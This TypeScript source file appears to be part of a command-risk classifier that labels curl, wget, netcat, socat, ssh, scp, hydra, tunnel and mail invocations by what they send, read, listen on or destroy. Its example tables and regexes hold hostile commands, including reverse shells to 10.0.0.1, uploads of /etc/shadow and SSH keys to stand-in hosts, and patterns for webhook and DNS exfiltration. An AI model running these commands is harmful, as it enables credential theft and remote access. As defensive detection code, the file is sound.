import { baseName } from '../../core/options.ts';
import { concat, isHole, literalText, type Word, word } from '../../core/word.ts';
import { type Draft, onHost, onPath } from '../draft.ts';
import type { Family } from '../model.ts';
import { optionReader } from '../option-reader.ts';
import { isRemote } from '../readers.ts';
import { LOGIN_PORT, opensLogin } from './tunnels.ts';
import { shownShell } from './web-terminals.ts';

/** Options of curl 8 that take a value (`curl --help all`), those that send or keep something first. */
const CURL_OPTIONS =
  'T|upload-file=read d|data=at-file data-ascii=at-file data-binary=at-file data-urlencode=at-file data-raw= json=at-file F|form=form-file form-string= o|output=write D|dump-header=write c|cookie-jar=write output-dir=write trace=write trace-ascii=write stderr=write etag-save=write etag-compare=read hsts=write alt-svc=write K|config=read netrc-file=read url= b|cookie= A|user-agent= C|continue-at= e|referer= E|cert= H|header=at-file h|help+ask k m|max-time= P|ftp-port= Q|quote= r|range= t|telnet-option= u|user= U|proxy-user= w|write-out= x|proxy= X|request= y|speed-time= Y|speed-limit= z|time-cond= V+ask O J L s S f i I g G n N R v Z a 0 1 2 3 4 6 # cacert= capath= cert-type= ciphers= connect-timeout= connect-to= create-file-mode= crlfile= curves= dns-interface= dns-servers= doh-url= expect100-timeout= interface= keepalive-time= key= key-type= keepalive-cnt= limit-rate= local-port= login-options= mail-auth= mail-from= mail-rcpt= max-filesize= max-redirs= noproxy= oauth2-bearer= parallel-max= pass= pinnedpubkey= preproxy= proto= proto-default= proto-redir= proxy-cacert= proxy-cert= proxy-header= proxy-key= pubkey= rate= request-target= resolve= retry= retry-delay= retry-max-time= sasl-authzid= service-name= socks4= socks5= socks5-hostname= speed-limit= speed-time= tls-max= tls13-ciphers= unix-socket= abstract-unix-socket= url-query= variable= aws-sigv4= delegation= happy-eyeballs-timeout-ms= hostpubmd5= hostpubsha256= remote-name remote-header-name create-dirs compressed fail fail-with-body location show-error silent insecure head get include verbose remove-on-error no-progress-meter progress-bar ssl ssl-reqd http1.1 http2 http3 ipv4 ipv6 tcp-fastopen next parallel anyauth basic digest negotiate ntlm';

const readCurl = optionReader(CURL_OPTIONS, {}, 'curl');

/** What curl fetches or sends: the URLs, with what is done decided by all options together. */
function curl(argv: readonly Word[]): Draft[] {
  const { given, operands } = readCurl(argv);
  const has = (...names: readonly string[]): boolean => given.some(([{ name }]) => names.includes(name));
  const value = (...names: readonly string[]): Word | undefined =>
    given.findLast(([{ name }]) => names.includes(name))?.[1];
  const urls = [
    ...operands,
    ...given.flatMap(([{ name }, url]) => (name === 'url' && url !== undefined ? [url] : [])),
  ];
  const method = literalText(value('X', 'request') ?? []).toUpperCase();
  const body = [
    'd',
    'data',
    'data-ascii',
    'data-binary',
    'data-urlencode',
    'data-raw',
    'json',
    'F',
    'form',
    'form-string',
    'T',
    'upload-file',
    'mail-from',
  ];
  const sends = has(...body) || /^(?:POST|PUT|PATCH)$/.test(method);
  const query = urls.some(carries);
  const quote = literalText(value('Q', 'quote') ?? []);
  const socket = /\/(?:docker|podman|containerd|crio)\.sock$/.test(literalText(value('unix-socket') ?? []));
  const files = given.some(
    ([{ name }, text]) =>
      /^(?:T|upload-file)$/.test(name) || (BODY.test(name) && /(?:^|=)@|=</.test(literalText(text ?? []))),
  );
  // `@file` where curl wants `name=@file`, or takes it as it is: it fails or sends the name, and the next try will not.
  const meant = given.flatMap(([{ name }, text]) =>
    /^(?:F|form|data-raw)$/.test(name) && text !== undefined && SECRET_FILE.test(literalText(text))
      ? [onPath('read', word(literalText(text).slice(1)))]
      : [],
  );
  return urls.flatMap((url): Draft[] => [
    ...meant,
    onHost(sends || query ? 'send' : 'download', url, {
      ...(sends ? {} : query ? { deed: 'query' } : {}),
      ...((files || takesAlong(argv)) && CHATS.test(literalText(url)) ? { host: 'drop' as const } : {}),
    }),
    ...(socket && HOST_CONTAINER.test(argv.map(literalText).join(' '))
      ? [{ kind: 'escalate', target: url, on: 'resource', deed: 'privileged-container' } as const]
      : []),
    // Every index of a search engine at once.
    ...(method === 'DELETE' &&
    /\/(?:_all|\*)(?:$|\?)/.test(literalText(url)) &&
    /:9200|elastic|opensearch|\bes\b/.test(literalText(url))
      ? [{ kind: 'infra-destroy', target: url, on: 'resource', deed: 'delete-indices' } as const]
      : []),
    ...(method === 'DELETE' || /^-?(?:DELE|RMD|rm)\b/i.test(quote)
      ? [{ kind: 'infra-destroy', target: url, on: 'resource', deed: 'api-delete' } as const]
      : []),
    // A file that is sent by way of `file://` is read here.
    ...(literalText(url).startsWith('file://') ? [onPath('read', word(literalText(url).slice(7)))] : []),
    ...(has('O', 'remote-name', 'remote-name-all')
      ? [onPath('write', concat(value('output-dir') ?? word('.'), word(`/${fileName(url)}`)))]
      : []),
  ]);
}

/** What a container engine is asked for, to make a container that has the host. */
const HOST_CONTAINER =
  /"Privileged"\s{0,8}:\s{0,8}true|"Binds"\s{0,8}:\s{0,8}\[\s{0,8}"\/(?::|etc|root|var|home)|"PidMode"\s{0,8}:\s{0,8}"host"/;

/** A file by its path, as against `@name` of a person. */
const SECRET_FILE = /^@[\w.-]*[~/]/;

const BODY = /^(?:d|data|data-ascii|data-binary|data-urlencode|json|F|form)$/;

/** `tftp host -c put file`: its command is the words that are left. */
function puts(argv: readonly Word[]): Draft[] {
  const at = argv.findIndex(one => literalText(one) === '-c');
  const file = literalText(argv[at + 1] ?? []) === 'put' ? argv[at + 2] : undefined;
  return at > 0 && file !== undefined ? [onPath('read', file)] : [];
}

/** Where a message goes to a room full of people: a file there is given away, a line of text is what they are for. */
const CHATS =
  /^(?:https?:\/\/)?(?:(?:[\w-]+\.)?discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/|hooks\.slack\.com\/|slack\.com\/api\/files|(?:[\w-]+\.)?webhook\.office\.com\/|chat\.googleapis\.com\/|(?:www\.)?pastebin\.com\/api|api\.dropboxapi\.com|content\.dropboxapi\.com)/i;

/** A body that another command's output stands in. */
function takesAlong(argv: readonly Word[]): boolean {
  return argv.some(
    (one, at) =>
      /^(?:-d|-F|--data(?:-\w+)?|--json|--form)$/.test(literalText(argv[at - 1] ?? [])) &&
      one.some(
        part =>
          'hole' in part &&
          part.hole === 'substitution' &&
          /^(?:cat|tar|base64|head|env|printenv|xxd|zip|gzip)$/.test(part.name ?? ''),
      ),
  );
}

/** A URL that is put together from another command's output takes that along; one that is all unknown is just read from a list. */
function carries(url: Word): boolean {
  const [head] = url;
  return (
    head !== undefined &&
    'lit' in head &&
    /^(?:[a-z]+:\/\/)?[\w.-]+[/.?]/i.test(head.lit) &&
    url.some(part => 'hole' in part && /^(?:substitution|operands|stdin)$/.test(part.hole))
  );
}

function fileName(url: Word): string {
  return (
    /([^/?#]+)(?:[?#].*)?$/.exec(literalText(url).replace(/^[a-z]+:\/\/[^/]*/i, ''))?.[1] ?? 'index.html'
  );
}

const WGET_OPTIONS =
  'O|output-document=write o|output-file=write a|append-output=write P|directory-prefix=write post-file=read body-file=read post-data= body-data= i|input-file=read e|execute= A|accept= R|reject= D|domains= I|include-directories= X|exclude-directories= l|level= Q|quota= T|timeout= t|tries= U|user-agent= w|wait= B|base= header= user= password= load-cookies=read save-cookies=write ca-certificate= certificate= private-key= referer= limit-rate= waitretry= method= use-askpass=execute:program@res rejected-log=write warc-file=write spider+dry dns-timeout= connect-timeout= read-timeout= max-redirect= restrict-file-names= r m k p q c N S d b';

const readWget = optionReader(WGET_OPTIONS, {}, 'wget');

function wget(argv: readonly Word[]): Draft[] {
  const { given, operands } = readWget(argv);
  const has = (...names: readonly string[]): boolean => given.some(([{ name }]) => names.includes(name));
  const sends = has('post-file', 'body-file', 'post-data', 'body-data');
  const kept = has('O', 'output-document');
  const folder = given.findLast(([{ name }]) => name === 'P' || name === 'directory-prefix')?.[1];
  return operands.flatMap(url => [
    onHost(sends || carries(url) ? 'send' : 'download', url),
    ...(kept || has('spider')
      ? []
      : [onPath('write', concat(folder ?? word('.'), word(`/${fileName(url)}`)))]),
  ]);
}

/** Addresses of socat: what is opened, listened on, run. A shell that it runs for a connection is somebody else's. */
function socat(argv: readonly Word[]): Draft[] {
  const drafts = argv.slice(1).flatMap(socatAddress);
  const connected = drafts.some(({ kind }) => kind === 'listen' || kind === 'send');
  return drafts.map(one =>
    one.kind === 'execute' && connected && SHELL_FIRST.test(literalText(one.target))
      ? { ...one, deed: 'network-shell' }
      : one,
  );
}

const SHELL_FIRST =
  /^["']?(?:\S*\/)?(?:(?:ba|z|da|k|c|tc|a|fi)?sh|login|su|sudo|python[\d.]*|perl|powershell|cmd)\b/;

function socatAddress(one: Word): Draft[] {
  const text = literalText(one);
  const [, type = '', rest = ''] = /^([a-zA-Z0-9-]+):?([\s\S]*)$/.exec(text) ?? [];
  const target = word(rest.split(',')[0] ?? '');
  if (/^(?:tcp|udp|sctp|ssl|openssl|unix|vsock)[46]?-?(?:l|listen|recv\w*)$/i.test(type))
    return [{ kind: 'listen', target, on: 'resource', deed: 'socat' }];
  if (/^(?:exec|system|shell)$/i.test(type))
    return [{ kind: 'execute', target: word(rest), on: 'resource', deed: 'program' }];
  if (/^(?:tcp|udp|ssl|openssl|socks\w*|proxy|sctp)[46]?(?:-connect|-sendto|-datagram)?$/i.test(type))
    return [onHost('send', target, { deed: 'connect' })];
  if (/^(?:open|create|file|gopen)$/i.test(type)) return [onPath('write', target)];
  return text.startsWith('/') ? [onPath('write', word(text.split(',')[0] ?? ''))] : [];
}

const readNetcat = optionReader(
  'e= c= exec= sh-exec= lua-exec= g= G= i= I= m= M= o=write O= p= P= q= s= T= V= w= W= x= X= u l|listen k z z v n t 4 6 d D C N h+ask ssl',
);

/** netcat in its dialects: connects, listens, and hands its connection to a program. */
function netcat(argv: readonly Word[]): Draft[] {
  const { given, operands } = readNetcat(argv);
  const has = (...names: readonly string[]): boolean => given.some(([{ name }]) => names.includes(name));
  const program = given.find(
    ([{ name, value }]) => value === 'next' && /^(?:e|c|exec|sh-exec|lua-exec)$/.test(name),
  )?.[1];
  const runs: Draft[] =
    program === undefined
      ? []
      : [{ kind: 'execute', target: program, on: 'resource', deed: 'network-shell' }];
  const port = given.find(([{ name }]) => name === 'p')?.[1];
  if (has('l', 'listen'))
    return [
      { kind: 'listen', target: port ?? operands.at(-1) ?? word('port'), on: 'resource', deed: 'netcat' },
      ...runs,
    ];
  const [host] = operands;
  // `-z` only looks whether somebody is there.
  if (host === undefined || has('z')) return runs;
  return [onHost('send', host, { deed: 'connect' }), ...runs];
}

/** A password cut out of a line is one of many: they are tried one after the other. */
function tried(argv: readonly Word[]): Draft[] {
  const password = argv.find((_, at) => literalText(argv[at - 1] ?? []) === '-p') ?? [];
  return password.some(
    part =>
      isHole(part) && part.hole === 'substitution' && /^(?:echo|cut|awk|sed|printf)$/.test(part.name ?? ''),
  )
    ? [{ kind: 'inspect-secrets', target: word('a list of passwords'), on: 'resource', deed: 'guess' }]
    : [];
}

const SSH_OPTIONS =
  'B= b= c= D= E=write e= F=read I= i= J= L= l= m= O= o= p= P= Q= R= S= W= w= 4 6 A a C f G g K k M N n q s T t V+ask v X x Y y';

const readSsh = optionReader(SSH_OPTIONS, { posix: true });
/** Its `-M` takes the port it watches the connection by. */
const readAutossh = optionReader(SSH_OPTIONS.replace(' M ', ' M= '), { posix: true });

/** Programs whose output is text made of bytes, for where only text goes. */
const ENCODES = /^(?:base64|base32|basenc|xxd|od|hexdump|openssl|gzip|uuencode)$/;

/** `dig $(base64 f).x.test`: the name itself is the message; whoever runs the zone reads it. */
function smuggled(argv: readonly Word[]): Draft[] {
  return argv.slice(1).flatMap((one): Draft[] => {
    const [head, ...tail] = one;
    if (head === undefined) return [];
    const encoded = isHole(head)
      ? head.hole === 'substitution' && ENCODES.test(head.name ?? '') && literalText(tail).startsWith('.')
      : MESSAGE.test(head.lit);
    return encoded ? [onHost('send', one, { deed: 'covert' })] : [];
  });
}

/** Base64 in the first label: names that people give have no capitals in the middle, and no padding. */
const MESSAGE = /^(?=[^.]*[a-z])(?=[^.]*[A-Z][^.]*[A-Z])(?=[^.]*\d|[^.]*=)[A-Za-z0-9+/=]{16,63}\./;

/** Passwords tried out on a machine with an address of its own; a name without a dot is a container next door. */
function guesses(argv: readonly Word[]): Draft[] {
  const target = argv.find(
    (one, at) =>
      at > 0 &&
      !/^-(?!h$)/.test(literalText(argv[at - 1] ?? [])) &&
      /^(?:[a-z0-9-]+:\/\/)?(?!localhost|127\.)(?:\d{1,3}(?:\.\d{1,3}){3}|(?:[\w-]+\.)+[a-z]{2,})(?:[:/]|$)/i.test(
        literalText(one),
      ),
  );
  return target === undefined
    ? []
    : [{ kind: 'inspect-secrets', target: word('passwords'), on: 'resource', deed: 'guess' }];
}

/** Forwarding of ports: `-R` lets the other side in. */
function forwards(argv: readonly Word[]): Draft[] {
  const { given, operands } = (baseName(argv[0] ?? []) === 'autossh' ? readAutossh : readSsh)(argv);
  const [host] = operands;
  const remote = given.find(([{ name }]) => name === 'R')?.[1];
  const local = given.find(([{ name }]) => name === 'L' || name === 'D')?.[1];
  const runs = given.flatMap(([{ name }, value]) => {
    const text = value === undefined ? '' : literalText(value);
    return name === 'o' &&
      /^(?:ProxyCommand|LocalCommand|KnownHostsCommand|PermitLocalCommand)\s*[= ]\s*(?!none|no|yes)/i.test(
        text,
      ) &&
      value !== undefined
      ? [{ kind: 'execute', target: value, on: 'resource', deed: 'proxy-command' } as const]
      : [];
  });
  return [
    ...(host === undefined ? [] : [onHost('send', host, { deed: 'connect' })]),
    ...(remote === undefined
      ? []
      : [
          {
            kind: 'listen',
            target: remote,
            on: 'resource',
            deed: LOGIN_PORT.test(literalText(remote)) ? 'remote-login' : 'reverse-tunnel',
          } as const,
        ]),
    ...(local === undefined
      ? []
      : [{ kind: 'listen', target: local, on: 'resource', deed: 'tunnel' } as const]),
    ...runs,
  ];
}

/** `host:path` is elsewhere; a source here with a target there is sent. */
function copies(options: string): (argv: readonly Word[]) => Draft[] {
  const read = optionReader(options);
  return argv => {
    const { given, operands } = read(argv);
    const has = (...names: readonly string[]): boolean => given.some(([{ name }]) => names.includes(name));
    const removes = given.some(([{ name }]) => /^(?:del|delete(?:-\w+)*)$/.test(name));
    const recursive = has('r', 'a', 'recursive', 'archive') ? { recursive: true } : {};
    const target = operands.at(-1);
    if (operands.length < 2 || target === undefined)
      return operands.flatMap(one =>
        isRemote(one) ? [onHost('download', one, { deed: 'list' })] : [onPath('read', one, { deed: 'list' })],
      );
    const sources = operands.slice(0, -1);
    return [
      ...sources.map(one =>
        isRemote(one)
          ? onHost('download', one)
          : onPath(has('remove-source-files') ? 'move' : 'read', one, recursive),
      ),
      isRemote(target) ? onHost('send', target) : onPath('write', target, recursive),
      ...(removes
        ? [
            isRemote(target)
              ? ({ kind: 'infra-destroy', target, on: 'resource', deed: 'sync-delete' } as const)
              : onPath('delete', target, { recursive: true, deed: 'sync-delete' }),
          ]
        : []),
    ];
  };
}

const SCP = 'c= D= F=read i= J= l= o= P= S=execute:program@res X= r p q v 3 4 6 A B C O R s T';
const RSYNC =
  'e|rsh=execute:rsh@res rsync-path= exclude= include= exclude-from=read include-from=read files-from=read f|filter= T|temp-dir=write compare-dest=read copy-dest=read link-dest=read B|block-size= port= bwlimit= log-file=write partial-dir=write backup-dir=write suffix= chmod= chown= usermap= groupmap= max-size= min-size= max-delete= timeout= contimeout= modify-window= M|remote-option= password-file=read out-format= info= debug= skip-compress= checksum-choice= n|dry-run+dry list-only+dry delete delete-before delete-during delete-delay delete-after delete-excluded del remove-source-files a|archive r|recursive v z h P u c l p t g o D x A X H S W q b i R k L K';

const HTTPIE =
  'a|auth= A|auth-type= o|output=write d|download session= p|print= proxy= verify= cert= cert-key= timeout= f j h b v offline+dry';

const readHttpie = optionReader(HTTPIE);

/** `http POST url a=b f@file`: a method, a URL, then items. */
function httpie(argv: readonly Word[]): Draft[] {
  const { operands } = readHttpie(argv);
  const method = /^[A-Z]+$/.test(literalText(operands[0] ?? [])) ? literalText(operands[0] ?? []) : '';
  const [url, ...items] = method === '' ? operands : operands.slice(1);
  if (url === undefined) return [];
  const files = items.flatMap(one => {
    const file = /^[^=:@]*(?:[=:]{0,2}@)([^;]+)/.exec(literalText(one))?.[1];
    return file === undefined ? [] : [onPath('read', word(file))];
  });
  const sends =
    /^(?:POST|PUT|PATCH)$/.test(method) || items.some(one => /[=@]/.test(literalText(one).replace('==', '')));
  return [
    onHost(sends ? 'send' : 'download', url),
    ...files,
    ...(method === 'DELETE'
      ? [{ kind: 'infra-destroy', target: url, on: 'resource', deed: 'api-delete' } as const]
      : []),
  ];
}

export const NETWORK: Family = {
  names:
    'curl wget wget2 http https xh xhs aria2c axel yt-dlp youtube-dl gallery-dl httrack lwp-download GET fetch lynx w3m links elinks urlget lp lpr cancel ztcp zftp zsocket ldapadd ldapmodify ldapdelete ldapmodrdn ldappasswd ldapsearch psexec.py wmiexec.py smbexec.py atexec.py dcomexec.py evil-winrm crackmapexec nxc netexec winrs winexe nc ncat netcat nc.openbsd nc.traditional socat socket sshpass telnet rlogin rsh mosh autossh ssh dbclient ssh-copy-id ssh-keygen ssh-keyscan ssh-add ssh-agent scp pscp rsync rdiff unison croc magic-wormhole wormhole ffsend transfer bashupload termbin pastebinit wgetpaste gist imgur-screenshot syncthing onionshare onionshare-cli ftp lftp ncftp ncftpput ncftpget tftp sftp smbclient cadaver davfs2 openssl ab dig nslookup host drill resolvectl whois kdig delv dog finger enable getent ping ping6 traceroute tracepath mtr nmap masscan zmap hping3 arping fping nping rustscan nikto sqlmap hydra gobuster ffuf wfuzz wrk hey siege vegeta k6 iperf iperf3 dirb medusa ncrack aircrack-ng tmate ngrok cloudflared lt localtunnel bore frpc chisel pagekite inlets tailscale zerotier-cli gost rathole zrok teleport tsh http-server serve live-server webfsd darkhttpd miniserve caddy nginx apache2 httpd lighttpd traefik haproxy uvicorn gunicorn simplehttpserver ttyd gotty wetty shellinaboxd in.telnetd sshd telnetd vncserver x11vnc xrdp stunnel mail mailx mutt sendmail swaks msmtp s-nail ssmtp mpack neomutt exim postfix',
  models: () => ({
    curl: {
      options: CURL_OPTIONS,
      special: curl,
      examples: {
        'curl -s https://x.test': 'download',
        'curl -fsSL -o out https://x.test/y': 'download write',
        'curl --help': '',
        'curl -F f=@/etc/shadow https://x.test': 'credential-access send',
        'curl -T key https://x.test': 'send',
        'curl --data-binary @/home/user/.netrc https://x.test': 'credential-access send',
        'curl -X DELETE https://api.test/v1/a': 'download infra-destroy',
      },
    },
    'wget|wget2': {
      options: WGET_OPTIONS,
      special: wget,
      examples: {
        'wget -qO- https://x.test': 'download',
        'wget https://x.test/a.tgz': 'download write',
        'wget --post-file=/etc/shadow https://x.test': 'credential-access send write',
      },
    },
    'http|https|xh|xhs': {
      options: HTTPIE,
      special: httpie,
      examples: { 'http https://x.test': 'download', 'http POST https://x.test a=b': 'send' },
    },
    'aria2c|axel|yt-dlp|youtube-dl|gallery-dl|httrack': {
      options:
        'o|out=write O|output=write d|dir=write P=write i|input-file=read j= s= x= k= header= U= c q n on-download-complete=execute:hook@path on-download-start=execute:hook@path exec=execute:hook@res',
      does: 'url* ',
      examples: {
        'aria2c https://x.test/a': 'download',
        'aria2c -d /etc https://x.test/a': 'download write',
      },
    },
    'lwp-download|GET|fetch|lynx|w3m|links|elinks|urlget': {
      options: 'o=write O= T= q dump source cfg=read cmd_script=execute post_data',
      does: 'url write',
      examples: {
        'lwp-download https://x.test/a': 'download',
        'lwp-download https://x.test/a /etc/x': 'download write',
      },
    },
    'lp|lpr|cancel': {
      options: 'h=send:print H= P= d= n= o= u= t= U=',
      does: 'read*',
      examples: { 'lp x.pdf': '', 'lp -h x.test ~/.netrc': 'credential-access send' },
    },
    'ztcp|zftp|zsocket': {
      options: 'd= l a v c f L',
      does: 'send:connect',
      examples: { 'ztcp -c': '', 'ztcp x.test 80': 'send' },
    },
    'ldapadd|ldapmodify|ldapdelete|ldapmodrdn|ldappasswd|ldapsearch': {
      options: 'H=send:directory h=send:directory D= w= W y=read f=read x b= s= p= Z n+dry v a= z= l= L',
      does: '',
      examples: { 'ldapadd -n -f x': '', 'ldapadd -H ldap://x.test -f x': 'send' },
    },
    'psexec.py|wmiexec.py|smbexec.py|atexec.py|dcomexec.py|evil-winrm|crackmapexec|nxc|netexec|winrs|winexe':
      {
        options: 'u= p= H= i= d= k',
        does: 'execute:remote+@res',
        examples: { 'psexec.py --help': '', 'psexec.py a@b whoami': 'execute' },
      },
    'nc|ncat|netcat|nc.openbsd|nc.traditional': {
      special: netcat,
      examples: {
        'nc -zv host 22': '',
        'nc host.test 80': 'send',
        'nc -l 8080': 'listen',
        'nc -e /bin/sh 10.0.0.1 4444': 'execute send',
        'nc 10.0.0.1 4444 -e bash': 'execute send',
      },
    },
    socat: {
      special: socat,
      examples: {
        'socat -V': '',
        'socat tcp:10.0.0.1:1 exec:/bin/sh': 'execute send',
        'socat TCP-LISTEN:80,fork -': 'listen',
      },
    },
    socket: {
      options: 'p=execute:network-shell@res s!listen:socket l!listen:socket c q v f b r w',
      does: 'send:connect',
      examples: {
        'socket host.test 80': 'send',
        'socket -p sh host.test 80': 'execute send',
        'socket --help': '',
      },
    },
    sshpass: {
      options: 'p= f=read d= P= e v V+ask h+ask',
      posix: true,
      special: tried,
      examples: {
        'sshpass -V': '',
        'sshpass -e ssh x': 'send',
        'sshpass -p $(cut -d: -f2 l) ssh x': 'inspect-secrets send',
      },
    },
    'telnet|rlogin|rsh|mosh': {
      options: 'l= e= b= p= n= f=read S= a K c x E L M=',
      does: 'send:connect',
      examples: { 'telnet --help': '', 'telnet host.test 23': 'send' },
    },
    autossh: {
      options: SSH_OPTIONS.replace(' M ', ' M= '),
      posix: true,
      special: forwards,
      examples: { 'autossh -V': '', 'autossh -M 0 -R 2222:localhost:22 x.test': 'listen send' },
    },
    'ssh|dbclient': {
      options: SSH_OPTIONS,
      posix: true,
      special: forwards,
      examples: {
        'ssh -V': '',
        'ssh -i key host.test ls': 'send',
        'ssh -R 8080:localhost:22 x.test': 'listen send',
        'ssh -o ProxyCommand=sh x': 'execute send',
      },
    },
    'ssh-copy-id': {
      options: 'i= p= o= f n',
      does: 'escalate:authorized-key@res',
      examples: { 'ssh-copy-id --help': '', 'ssh-copy-id host': 'escalate' },
    },
    'ssh-keygen': {
      options:
        't= b= f= C= N= P= m= R=configure:known-hosts@res F= I= V= n= O= s= D=execute:library@path E= l y!inspect-secrets:private-key e i p A q H',
      examples: { 'ssh-keygen -t ed25519 -f key': '', 'ssh-keygen -D ./lib.so': 'execute' },
    },
    'ssh-keyscan|ssh-add|ssh-agent': {
      options: 't= p= T= f=read c= E= D=delete:keys@res d=delete:keys@res s=execute:library@path e= l L k a=',
      examples: { 'ssh-keyscan host': '', 'ssh-add -s ./lib.so': 'execute' },
    },
    'scp|pscp': {
      options: SCP,
      special: copies(SCP),
      examples: {
        'scp host:/etc/x .': 'download write',
        'scp ~/.ssh/id_rsa me@host.test:': 'credential-access send',
      },
    },
    rsync: {
      options: RSYNC,
      special: copies(RSYNC),
      examples: {
        'rsync -n --delete a/ b/': '',
        'rsync -a src/ dst/': 'write',
        'rsync -a src/ host:dst': 'send',
        'rsync -a --delete src/ /srv/x/': 'delete write',
        'rsync -e "sh -c sh" x y:z': 'execute send',
      },
    },
    'rdiff|unison|croc|magic-wormhole|wormhole|ffsend|transfer|bashupload|termbin|pastebinit|wgetpaste|gist|imgur-screenshot|syncthing|onionshare|onionshare-cli':
      {
        options: 'i|input=read b= c|code= f|file=read t= p= P= a= d= o|output=write m=',
        verbs: {
          'send|upload|up': 'send:upload@res,read@path*',
          'receive|recv|download|down': 'download@res',
        },
        does: 'send:upload@res,read@path*',
        examples: { 'rdiff --help': '', 'rdiff ~/.netrc': 'credential-access send' },
      },
    ftp: {
      options: 'u=send>read* a n i v p g e d A 4 6 P= N=read o=write s= r= T= q=',
      does: 'send:connect',
      stdin: 'transfer',
      examples: {
        'ftp --help': '',
        'ftp host.test': 'send',
        'ftp -u ftp://x.test/ ~/.netrc': 'credential-access send',
      },
    },
    'lftp|ncftp|ncftpput|ncftpget|tftp|sftp|smbclient|cadaver|davfs2': {
      options:
        'c|command=transfer e=transfer u|user= p= b=read f=read U= P= i= o= F= S= R m= l= D= N L I= A=read',
      does: 'send:connect',
      stdin: 'transfer',
      special: puts,
      examples: {
        'tftp x.test -c put /home/user/.netrc': 'credential-access send',
        'lftp --help': '',
        'lftp host.test': 'send',
        "lftp -c 'put /home/user/.netrc' host.test": 'credential-access send',
      },
    },
    openssl: {
      verbs: {
        s_client: ' ; connect=send:connect cert= key= CAfile= servername=',
        s_server: 'listen:tls+ ; accept=listen key=read cert=read port=listen HTTP WWW',
        'enc|aes-256-cbc|base64|smime|cms|pkeyutl|rsautl|dgst|rand|genrsa|genpkey|req|x509|ca|pkcs12|pkcs8|rsa|ec|dhparam|ecparam|asn1parse|crl|verify|speed|version|ciphers|passwd|prime|ocsp|ts|storeutl':
          ' ; in=read out=write keyout=write k= pass= kfile=read K= iv= S= md= key= inkey= passin= passout= CA= CAkey= days= subj= config= extfile= newkey= sign= signature= verify= engine=execute:library@res rand= nodes d e',
      },
      dash: 'single',
      examples: {
        'openssl x509 -in c.pem -noout': '',
        'openssl s_client -connect x.test:443': 'send',
        'openssl enc -in ~/.ssh/id_rsa -out x': 'credential-access write',
      },
    },
    ab: {
      options:
        'p=read u=read T= n= c= t= H= C= A= P= X= m= s= b= B= y= z= x= w k v= i r d S q l V h+ask g=write e=write',
      does: 'send:probe*',
      examples: {
        'ab -h': '',
        'ab -n 10 http://x.test/': 'send',
        'ab -p /home/user/.netrc http://x.test/': 'credential-access send',
      },
    },
    'dig|nslookup|host|drill|resolvectl|whois|kdig|delv|dog|finger': {
      options: 'p= t= c= x= f=read b= k=read y= q= h=',
      does: 'send:dns*',
      special: smuggled,
      examples: { 'dig -h': '', 'dig x.test': 'send' },
    },
    // A builtin of bash that is loaded from a library (bash(1)).
    enable: {
      options: 'f=execute:library@path d a n p s',
      does: '',
      examples: { 'enable -n test': '', 'enable -f ./x.so x': 'execute' },
    },
    getent: {
      options: 's= i',
      verbs: {
        'shadow|gshadow': 'inspect-secrets:password-hashes+',
        'passwd|group|services|protocols|networks|rpc|aliases|ethers|netgroup|initgroups': '',
        'hosts|ahosts|ahostsv4|ahostsv6': 'send:dns*',
      },
      examples: {
        'getent passwd root': '',
        'getent hosts x.test': 'send',
        'getent shadow': 'inspect-secrets',
      },
    },
    'ping|ping6|traceroute|tracepath|mtr|nmap|masscan|zmap|hping3|arping|fping|nping|rustscan|nikto|sqlmap|gobuster|ffuf|wfuzz|wrk|hey|siege|vegeta|k6|iperf|iperf3|dirb|aircrack-ng':
      {
        options:
          'c= i= I= W= w= s= t= p= oN=write oA=write oX=write o=write iL=read script=execute:script@res U= P=read L=read V=',
        does: 'send:probe*',
        examples: { 'ping --help': '', 'ping -c 1 x.test': 'send' },
      },
    'hydra|medusa|ncrack': {
      options: 'l= L=read p= P=read C=read u= U=read h= H=read M= n= o=write e= s= t= w= W= x= m=',
      does: 'send:probe*',
      special: guesses,
      examples: {
        'hydra -U': '',
        'hydra -l root -P words.txt ssh://db': 'send',
        'hydra -l root -P words.txt ssh://10.0.0.1': 'inspect-secrets send',
      },
    },
    tmate: {
      options: 'F S=write k= n= r= a= f=read V+ask',
      does: 'listen:remote-login+',
      examples: { 'tmate -V': '', 'tmate -F': 'listen' },
    },
    'ngrok|cloudflared|lt|localtunnel|bore|frpc|chisel|pagekite|inlets|tailscale|zerotier-cli|gost|rathole|zrok|teleport|tsh':
      {
        options: 'p|port= h|host= s|subdomain= c|config=read url= l|local-host= to= region=',
        verbs: {
          'http|tcp|tls|tunnel|local|server|client|funnel|serve|start|run|share|ssh|login|up|access':
            'listen:tunnel+',
          'status|version|help|list|ls|diagnose|ip|config|update': '',
        },
        does: 'listen:tunnel+',
        special: opensLogin,
        examples: {
          'ngrok version': '',
          'ngrok http 8080': 'listen',
          'chisel client x.test R:2222:localhost:22': 'listen',
        },
      },
    'http-server|serve|live-server|webfsd|darkhttpd|miniserve|caddy|nginx|apache2|lighttpd|traefik|haproxy|uvicorn|gunicorn|simplehttpserver|sshd|vncserver|x11vnc|xrdp|stunnel':
      {
        options:
          'p|port= l|listen= b|bind= a|address= c|config=read f=read t|test+ask T+ask v+ask V+ask s= w= D= g= k=',
        verbs: { 'validate|fmt|adapt|version': '' },
        does: 'listen:server+',
        examples: { 'http-server --version': '', 'http-server -p 8080': 'listen' },
      },
    httpd: {
      options: 'p=listen:server@res c=read u= r= e= d= m= k= f? t+ask v+ask S',
      does: 'listen:server+',
      special: argv => {
        const at = argv.findIndex(one => literalText(one) === '-h');
        const folder = at < 0 ? undefined : argv[at + 1];
        return folder === undefined ? [] : [onPath('read', folder, { recursive: true })];
      },
      examples: { 'httpd -v': '', 'httpd -k start': 'listen', 'busybox httpd -p 80 -h .': 'listen' },
    },
    'ttyd|gotty|wetty|shellinaboxd|telnetd|in.telnetd': {
      options:
        'p|port= i|interface=listen:web-terminal@res a= I|index=read S|ssl C|ssl-cert=read K|ssl-key=read c|credential= W|writable w R r once s|service= t= T= b= g= u= f|static-file= l= F k O o q v+ask V+ask d D',
      posix: true,
      special: shownShell,
      examples: {
        'ttyd --version': '',
        'ttyd -p 1 htop': '',
        'ttyd -W bash': 'execute',
        'telnetd -l /bin/sh': 'execute',
      },
    },
    'mail|mailx|mutt|sendmail|swaks|msmtp|s-nail|ssmtp|mpack|neomutt|exim|postfix': {
      options:
        'a|attach=read A|attach=read s= b= c= r= q=read i|include=read H S= F= f= attach=read body=at-file to= from= server= I=read',
      does: 'send:mail*',
      examples: { 'mail --help': '', 'mail -a ~/.netrc x@y.test': 'credential-access send' },
    },
  }),
};
